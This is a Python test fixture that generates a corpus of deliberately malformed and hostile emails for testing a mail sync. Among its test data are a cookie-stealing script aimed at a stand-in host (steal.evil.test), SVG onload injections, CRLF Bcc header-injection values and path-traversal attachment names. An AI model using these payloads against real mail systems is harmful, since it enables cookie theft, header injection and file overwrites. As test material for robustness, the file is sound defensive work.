"""A hostile corpus of real-world mail, generated at test time (issue 10, S12/S13).

``corpus(me, customer)`` returns ``Item(name, raw)`` for mail as it arrives in the wild:
malformed MIME, deep nesting, missing / duplicate / garbage Message-IDs, 8-bit and
unknown-charset headers, RFC 2047 abuse, header injection, hostile HTML, traversal file
names, out-of-range dates, a nearly empty message, a From with hundreds of addresses, and
(``big=True``) 20 MB and 49 MB messages. Nearly every item involves CUSTOMER, so the sync
has to store it (with warnings) or say why not. Nothing is downloaded; ``seed`` makes the
random parts repeatable.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

__all__ = ["Item", "corpus"]

MB = 1024 * 1024


@dataclass(frozen=True)
class Item:
    name: str
    raw: bytes


def _date(days_ago: float = 0.2) -> str:
    return format_datetime(datetime.now(UTC) - timedelta(days=days_ago))


def _msg(*headers: str, body: str | bytes = "Hello,\r\nthe unit is available.\r\n") -> bytes:
    head = "".join(h if h.endswith("\n") else h + "\r\n" for h in headers)
    data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogateescape")
    return head.encode("utf-8", "surrogateescape") + b"\r\n" + data


def _mime(boundary: str, *parts: str, close: bool = True) -> str:
    out = "".join(f"--{boundary}\r\n{p}\r\n" for p in parts)
    return out + (f"--{boundary}--\r\n" if close else "")


def _big(me: str, customer: str, name: str, attachment_bytes: int, rng: random.Random) -> Item:
    payload = base64.encodebytes(rng.randbytes(attachment_bytes)).decode().replace("\n", "\r\n")
    body = _mime(
        "big",
        "Content-Type: text/plain; charset=utf-8\r\n\r\nSigned contract and floor plans attached.",
        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="contract-scan.pdf"\r\n\r\n' + payload,
    )
    return Item(
        name,
        _msg(
            f"From: {customer}",
            f"To: {me}",
            f"Subject: {name}",
            f"Date: {_date()}",
            f"Message-ID: <{name}@cust.test>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="big"',
            body=body,
        ),
    )


def corpus(me: str, customer: str, *, big: bool = False, seed: int = 10) -> list[Item]:
    """The corpus for mailbox ME, with CUSTOMER's primary address on (nearly) every item."""
    rng = random.Random(seed)
    return list(_items(me, customer, rng)) + (
        [
            _big(me, customer, "big-20mb", 15 * MB, rng),
            _big(me, customer, "big-49mb", 36 * MB, rng),
        ]
        if big
        else []
    )


def _items(me: str, c: str, rng: random.Random) -> Iterator[Item]:  # noqa: C901 - a data table
    base = [f"From: {c}", f"To: {me}", f"Date: {_date()}"]

    def item(name: str, *headers: str, body: str | bytes = "Hello,\r\nthe unit.\r\n") -> Item:
        hs = list(headers)
        if not any(h.lower().startswith("message-id:") for h in hs):
            hs.append(f"Message-ID: <{name}@hostile.test>")
        if not any(h.lower().startswith("subject:") for h in hs):
            hs.append(f"Subject: {name}")
        return Item(name, _msg(*hs, body=body))

    # -- malformed MIME ------------------------------------------------------------------
    yield item("mime-no-boundary", *base, "Content-Type: multipart/mixed", body="--x\r\nhi\r\n")
    yield item(
        "mime-unclosed-boundary",
        *base,
        'Content-Type: multipart/mixed; boundary="u"',
        body=_mime("u", "Content-Type: text/plain\r\n\r\nnever closed", close=False),
    )
    yield item(
        "mime-no-start-boundary",
        *base,
        'Content-Type: multipart/alternative; boundary="s"',
        body="no boundary line at all\r\n",
    )
    yield item("mime-header-continuation-first", " folded first line", *base)
    yield item("mime-line-without-colon", *base, "This line has no colon", body="body\r\n")
    yield Item("mime-headers-only-no-blank-line", f"From: {c}\r\nTo: {me}\r\nSubject: x".encode())
    yield item(
        "mime-invalid-base64",
        *base,
        "Content-Transfer-Encoding: base64",
        "Content-Type: text/plain",
        body="!!!not*base64$$\r\n",
    )
    yield item("mime-unknown-cte", *base, "Content-Transfer-Encoding: x-rot13", body="uryyb\r\n")
    yield item(
        "mime-bad-qp",
        *base,
        "Content-Transfer-Encoding: quoted-printable",
        body="broken =ZZ escape =\r\nand a soft break=",
    )
    yield item(
        "mime-broken-rfc822-attachment",
        *base,
        'Content-Type: multipart/mixed; boundary="r"',
        body=_mime(
            "r",
            "Content-Type: text/plain\r\n\r\nforwarded:",
            "Content-Type: message/rfc822\r\n\r\nFrom: nobody\r\nContent-Type: multipart/mixed\r\n\r\n--",
        ),
    )
    yield item(
        "mime-binary-body",
        *base,
        "Content-Type: application/octet-stream",
        body=bytes(rng.randrange(1, 256) for _ in range(4096))
        .replace(b"\r", b"")
        .replace(b"\n", b""),
    )

    # -- deep nesting ----------------------------------------------------------------------
    for depth in (80, 400):
        inner = "".join(
            f'--n{i}\r\nContent-Type: multipart/mixed; boundary="n{i + 1}"\r\n\r\n'
            for i in range(depth)
        )
        inner += f"--n{depth}\r\nContent-Type: text/plain\r\n\r\nat the bottom\r\n"
        yield item(
            f"nesting-{depth}", *base, 'Content-Type: multipart/mixed; boundary="n0"', body=inner
        )

    # -- Message-IDs ----------------------------------------------------------------------
    yield Item("id-missing", _msg(*base, "Subject: id-missing"))
    dup = _msg(*base, "Subject: id-duplicate", "Message-ID: <dup-1@hostile.test>")
    yield Item("id-duplicate-same-content", dup)
    yield Item("id-duplicate-same-content-with-received", b"Received: from relay by mx; " + _date().encode() + b"\r\nBcc: boss@example.test\r\n" + dup)  # fmt: skip
    yield Item("id-reused-other-content", _msg(*base, "Subject: id-duplicate", "Message-ID: <dup-1@hostile.test>", body="a different message\r\n"))  # fmt: skip
    yield Item("id-reused-case-only", _msg(*base, "Subject: case", "Message-ID: <DUP-1@HOSTILE.TEST>", body="case\r\n"))  # fmt: skip
    yield item("id-garbage-null", *base, "Message-ID: <null>")
    yield item("id-garbage-empty", *base, "Message-ID: <>")
    yield item("id-garbage-brackets", *base, "Message-ID: <<svg onload=x>@e.test>")
    yield item("id-svg-onload", *base, "Message-ID: <svg/onload=x@e.test>")
    yield item("id-very-long", *base, "Message-ID: <" + "x" * 2000 + "@hostile.test>")
    yield item("id-two-headers", *base, "Message-ID: <first@hostile.test>", "Message-ID: <second@hostile.test>")  # fmt: skip

    # -- 8-bit and charsets -----------------------------------------------------------------
    yield Item("header-8bit-latin1", f"From: J\xf6rg <{c}>\r\nTo: {me}\r\nSubject: R\xfcckfrage Stellplatz\r\nDate: {_date()}\r\nMessage-ID: <latin1@hostile.test>\r\n\r\nbody\r\n".encode("latin-1"))  # fmt: skip
    yield Item("header-8bit-utf8", _msg(f"From: Søren Groß <{c}>", f"To: {me}", "Subject: Grüße aus Zürich", f"Date: {_date()}", "Message-ID: <utf8@hostile.test>"))  # fmt: skip
    yield item(
        "charset-unknown", *base, "Content-Type: text/plain; charset=x-klingon", body="qapla'\r\n"
    )
    yield Item("charset-wrong", _msg(*base, "Subject: charset-wrong", "Message-ID: <cw@hostile.test>", "Content-Type: text/plain; charset=utf-8", body=b"caf\xe9 cr\xe8me\r\n"))  # fmt: skip
    yield item("charset-8bit-undeclared", *base, body="Gr\udcfc\udcdfe\r\n")

    # -- RFC 2047 abuse -----------------------------------------------------------------
    yield item("rfc2047-invalid-base64", *base, "Subject: =?utf-8?b?!!!?=")
    yield item("rfc2047-unknown-charset", *base, "Subject: =?x-unknown?q?abc?=")
    yield item("rfc2047-undecodable", *base, "Subject: =?utf-8?b?/w==?=")
    yield item("rfc2047-many-words", *base, "Subject: " + " ".join(["=?utf-8?q?w=C3=B6rd?="] * 500))
    yield item("rfc2047-spoofed-address", f"From: =?utf-8?q?{c.replace('@', '=40')}?= <attacker@evil.test>", f"To: {me}", f"Cc: {c}", f"Date: {_date()}")  # fmt: skip
    yield item(
        "rfc2047-in-address",
        f"From: {c}",
        f"To: =?utf-8?q?me?=@evil.test, {me}",
        f"Date: {_date()}",
    )

    # -- header injection ------------------------------------------------------------------
    yield item("inject-encoded-crlf", *base, "Subject: =?utf-8?q?offer=0D=0ABcc:_x@evil.test?=")
    yield item("inject-folded-bcc", *base, "Subject: offer\r\n Bcc: x@evil.test")
    yield item("inject-bare-cr", *base, "Subject: a\rBcc: x@evil.test")
    yield item("header-huge-subject", *base, "Subject: " + "A" * 100_000)

    # -- hostile HTML ---------------------------------------------------------------------
    html = (
        '<html><head><link rel="stylesheet" href="https://css.evil.test/a.css">'
        "<style>body{background:url(https://bg.evil.test/x.png)}</style>"
        "<script>document.location='https://steal.evil.test/'+document.cookie</script></head>"
        '<body onload="steal()"><p onclick="steal()">Offer</p>'
        '<a href="javascript:steal()">click</a><a href="data:text/html,<script>x</script>">d</a>'
        '<img src="https://img.evil.test/logo.png"><img src="http://px.evil.test/o.gif" width="1" height="1">'
        '<img srcset="https://set.evil.test/a.png 2x"><div style="background-image:url(//div.evil.test/b)">x</div>'
        '<svg><script>steal()</script></svg><iframe src="https://frame.evil.test/"></iframe></body></html>'
    )
    yield item("html-hostile", *base, "Content-Type: text/html; charset=utf-8", body=html)

    # -- file names -------------------------------------------------------------------------
    def attachment(name: str, disposition: str) -> Item:
        return item(
            name,
            *base,
            'Content-Type: multipart/mixed; boundary="f"',
            body=_mime(
                "f",
                "Content-Type: text/plain\r\n\r\nsee attachment",
                f"Content-Type: application/pdf\r\nContent-Disposition: attachment; {disposition}\r\n\r\nPDF",
            ),
        )

    yield attachment("file-traversal", 'filename="../../../../etc/cron.d/evil"')
    yield attachment(
        "file-windows-traversal", 'filename="..\\\\..\\\\Windows\\\\System32\\\\evil.dll"'
    )
    yield attachment("file-nul-rfc2231", "filename*=utf-8''a%00b.pdf")
    yield attachment("file-bidi-override", "filename*=utf-8''invoice%E2%80%AEfdp.exe")
    yield attachment("file-very-long", 'filename="' + "n" * 1000 + '.pdf"')
    yield attachment("file-encoded-word", 'filename="=?utf-8?b?Li4vLi4vZXZpbC5zaA==?="')
    yield attachment("file-device-name", 'filename="CON"')

    # -- dates --------------------------------------------------------------------------
    dated = [f"From: {c}", f"To: {me}"]
    for name, value in [
        ("date-1900", "Mon, 1 Jan 1900 10:00:00 +0000"),
        ("date-1969", "Wed, 31 Dec 1969 23:59:59 +0000"),
        ("date-9999-overflow", "Fri, 31 Dec 9999 23:00:00 -1200"),
        ("date-year-zero", "1 Jan 0000 00:00:00 +0000"),
        ("date-2100", "Fri, 1 Jan 2100 00:00:00 +0000"),
        ("date-garbage", "32 Foo 2026 99:99:99 +9999"),
    ]:
        yield item(name, *dated, f"Date: {value}")
    yield item("date-missing", *dated)

    # -- nearly empty and crowded -----------------------------------------------------------
    yield Item("nearly-empty", f"From: {c}\r\n\r\n".encode())
    yield Item("empty-headers", b"\r\n\r\n")
    many = ", ".join(f"person{i}@crowd.test" for i in range(400))
    yield item("from-hundreds-of-addresses", f"From: {many}, {c}", f"To: {me}", f"Date: {_date()}")
    yield item("to-hundreds-of-addresses", f"From: {c}", f"To: {many}, {me}", f"Date: {_date()}")
